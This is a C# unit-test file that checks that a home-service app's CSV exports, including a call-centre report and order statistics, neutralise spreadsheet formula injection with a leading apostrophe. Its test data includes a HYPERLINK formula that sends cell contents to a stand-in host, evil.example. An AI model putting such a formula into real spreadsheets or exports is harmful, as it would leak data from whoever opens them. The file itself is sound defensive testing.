using System.Text;
using HomeService.CallCenter.Kpis;
using HomeService.Web.Data;
using HomeService.Web.Data.Csv;
using HomeService.Web.Localization;

namespace HomeService.Tests.Unit.Csv;

/// <summary>
/// CSV injection: a cell a spreadsheet would run as a formula (= + - @, a tab or a CR first) is written with a leading '
/// (and quoted), so Excel shows the text. The two in-memory reports are checked here; the streamed exports (orders, audit,
/// SMS, statistics) over HTTP in <c>WorkOrders/CsvExportHttpTests</c>.
/// </summary>
public sealed class CsvExportTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";

    [Theory]
    [InlineData(Hyperlink)]
    [InlineData("+86 138 0013 8000")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A2)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public async Task A_text_that_starts_like_a_formula_is_written_as_text(string value)
    {
        var text = Text(await CsvExport.Bytes(async csv =>
        {
            csv.WriteField("name");
            csv.WriteField(value);
            csv.WriteField(-5);
            await csv.EndRecordAsync();
        }));
        Assert.Equal($"name,{Quoted("'" + value)},-5\n", text);
    }

    [Fact]
    public async Task Plain_text_and_chinese_stay_as_they_are_and_the_file_starts_with_a_bom()
    {
        var bytes = await CsvExport.Bytes(async csv =>
        {
            csv.WriteField("金水区");
            csv.WriteField("a, b");
            await csv.EndRecordAsync();
        });
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        Assert.Equal("金水区,\"a, b\"\n", Text(bytes));
    }

    [Fact]
    public void The_call_report_defuses_a_formula_in_an_agent_cell()
    {
        var zero = new CallKpis(3, 2, 1, 0, 2, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 100, 100, 1.5, null, 33.3, null);
        var at = new DateTimeOffset(2026, 12, 7, 2, 0, 0, TimeSpan.Zero);
        var report = new CallKpiReport(at, at.AddHours(1), "agent", null, [new CallKpiRow(at, at.AddHours(1), Hyperlink, zero)], zero);
        var lines = UiCulture.Under("zh-CN", () => Text(CallReportCsv.Write(report, new UiText()).GetAwaiter().GetResult())).Split('\n');
        Assert.StartsWith("开始,结束,座席", lines[0]);
        Assert.Equal($"2026-12-07 10:00,2026-12-07 11:00,{Quoted("'" + Hyperlink)},3,2,1,0,100.0,100.0,1.5,,33.3,,0,0,2,0,0,0,0,0", lines[1]);
    }

    [Fact]
    public async Task The_statistics_csv_defuses_a_formula_in_a_group_key()
    {
        // Only the breakdown goes into the CSV.
        var report = new OrderStatistics.Report(default, default, 2, Breakdown([new OrderStatistics.Group(Hyperlink, 2)]), null!, null!, null!, null!, null!, []);
        var text = Text(await OrderStatisticsCsv.Counts(report));
        Assert.Contains($"\ndistrict,{Quoted("'" + Hyperlink)},2\n", text);
        Assert.DoesNotContain(",=", text);
    }

    private static OrderStatistics.Breakdown Breakdown(IReadOnlyList<OrderStatistics.Group> districts) =>
        new([], [], [], [], districts);

    private static string Quoted(string value) => $"\"{value.Replace("\"", "\"\"")}\"";

    private static string Text(byte[] bytes) => Encoding.UTF8.GetString(bytes[3..]);
}
